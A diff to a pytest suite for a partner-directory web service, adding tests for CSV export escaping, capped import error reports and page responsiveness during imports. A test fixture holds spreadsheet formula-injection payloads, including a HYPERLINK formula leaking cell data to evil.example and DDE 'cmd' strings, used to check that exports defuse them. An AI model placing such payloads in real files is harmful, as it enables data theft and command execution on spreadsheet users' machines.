@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import re
+import threading
 from datetime import timedelta
 from pathlib import Path
 
@@ -12,6 +13,7 @@ import pytest
 from litestar.testing import TestClient
 
 from services import cli
+from services.directory import csv_io
 from shared.auth import Staff, issue_staff_token
 from shared.config import Settings
 from shared.web import STAFF_COOKIE
@@ -153,7 +155,9 @@ def test_the_same_file_twice_imports_once_and_an_edit_updates_in_place(client: T
     assert upload(GOOD_CSV)["created"] == 3
     again = upload(GOOD_CSV)
     assert (again["created"], again["updated"], again["unchanged"]) == (0, 0, 3)
-    assert count_rows(settings.directory_db_url) == (3, 3)
+    # Three partners; their changes travel in one outbox row (one message), and the second
+    # import staged none.
+    assert count_rows(settings.directory_db_url) == (3, 1)
 
     # The NPI is the key: a renamed partner with the same NPI is updated, not duplicated.
     renamed = GOOD_CSV.replace("Bay Physical Therapy,", "Bay PT,").replace("727-555-0100", "727-555-0199")
@@ -198,6 +202,109 @@ def test_the_admin_page_imports_and_exports(admin: TestClient) -> None:
     assert "Line 3, column category" in response.text and "nothing was imported" in response.text
     exported = admin.get("/admin/partners/export.csv")
     assert exported.status_code == 200 and exported.text.startswith("name,credentials,category")
+
+
+# What the adversarial review exported verbatim (issue 16, item 1): each would run as a formula in
+# a spreadsheet. Plain numbers (a phone, a longitude) are no formula and stay as they are.
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "credentials": "=2+5",
+    "practice": "+cmd|' /C calc'!A0",
+    "hours": "-2+3+cmd|' /C calc'!A0",
+    "bio": "@SUM(1+1)",
+}
+
+
+def test_the_export_defuses_formulas_and_an_import_of_it_restores_them(
+    client: TestClient,
+    admin: TestClient,
+) -> None:
+    create(client, **FORMULAS)
+    # A leading TAB is trimmed on input, so this partner's name is stored as "=1+2".
+    tabbed = "name,category,email,specialties\n\t=1+2,dietitian,tab@diet.example,\t=3+4; knees\n"
+    imported = client.post("/api/v1/partners/import", content=tabbed, headers={**ADMIN, "Content-Type": "text/csv"})
+    assert imported.status_code == 200, imported.text
+
+    api = client.get("/api/v1/partners/export", headers=ADMIN)
+    page = admin.get("/admin/partners/export.csv")
+    for exported in (api, page):
+        assert exported.status_code == 200
+        rows = {row["email"]: row for row in csv.DictReader(exported.text.splitlines())}
+        cells = [value for row in rows.values() for value in row.values()]
+        assert not [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r")]
+        assert all(re.fullmatch(r"[+-][0-9.]+", cell) for cell in cells if cell[:1] in ("+", "-")), cells
+        attacker = rows[PARTNER["email"]]
+        assert {name: attacker[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
+        assert (rows["tab@diet.example"]["name"], rows["tab@diet.example"]["specialties"]) == ("'=1+2", "'=3+4; knees")
+        assert attacker["phone"] == PARTNER["phone"] and attacker["lon"] == str(PARTNER["location"]["lon"])
+
+    again = client.post("/api/v1/partners/import", content=api.text, headers={**ADMIN, "Content-Type": "text/csv"})
+    assert again.json() == {"created": 0, "updated": 0, "unchanged": 2, "skipped": 0, "errors": []}
+    stored = client.get("/api/v1/partners", params={"q": "hyperlink"}, headers=ADMIN).json()["items"]
+    assert [(p["name"], p["credentials"], p["practice"]) for p in stored] == [
+        (FORMULAS["name"], FORMULAS["credentials"], FORMULAS["practice"])
+    ]
+
+
+def bad_rows(count: int) -> str:
+    """A CSV file of ``count`` rows, each with an unknown category."""
+    return "name,category,email\n" + "".join(f"P{n},astrology,p{n}@x.example\n" for n in range(count))
+
+
+def test_an_import_report_stops_at_100_errors_and_says_how_many_more(
+    client: TestClient,
+    admin: TestClient,
+) -> None:
+    """Issue 16, item 10: 200,000 bad rows once made a 52.9 MB answer."""
+    answer = client.post(
+        "/api/v1/partners/import", content=bad_rows(250), headers={**ADMIN, "Content-Type": "text/csv"}
+    )
+    assert answer.status_code == 422
+    body = answer.json()
+    assert body["detail"].startswith("250 row(s) cannot be imported")
+    assert len(body["extra"]["errors"]) == 100 and body["extra"]["more_errors"] == 150
+    assert (body["extra"]["errors"][0]["line"], body["extra"]["errors"][0]["column"]) == (2, "category")
+    page = admin.post(
+        "/admin/partners/import",
+        data={"_csrf_token": csrf(admin.get("/admin/partners/import"))},
+        files={"file": ("p.csv", bad_rows(250), "text/csv")},
+    )
+    assert page.status_code == 422
+    assert page.text.count("<li>Line ") == 100 and "and 150 more" in page.text and "250 row(s)" in page.text
+
+
+def test_the_public_page_answers_while_a_large_import_is_read(
+    client: TestClient,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Issue 16, item 10: the public page waited 17.8 s for an import to be read. The rows read so
+    far are counted as the import reads them: the page must answer before the last one."""
+    rows = 40_000
+    read: list[int] = []
+    reading = threading.Event()
+    original = csv_io.read_rows
+
+    def counted(text: str):  # the real parser, with a count beside it
+        for row in original(text):
+            read.append(row.line)
+            reading.set()
+            yield row
+
+    monkeypatch.setattr(csv_io, "read_rows", counted)
+    answers: dict[str, object] = {}
+
+    def send() -> None:
+        headers = {**ADMIN, "Content-Type": "text/csv"}
+        answers["import"] = client.post("/api/v1/partners/import", content=bad_rows(rows), headers=headers)
+
+    importing = threading.Thread(target=send)
+    importing.start()
+    assert reading.wait(timeout=120), "the import never started reading"
+    page = client.get("/partners-in-health")
+    read_by_then = len(read)
+    importing.join(timeout=300)
+    assert page.status_code == 200 and answers["import"].status_code == 422  # type: ignore[attr-defined]
+    assert read_by_then < rows, "the page waited for the whole file to be read"
 
 
 # --- the CLI ---------------------------------------------------------------------------------------
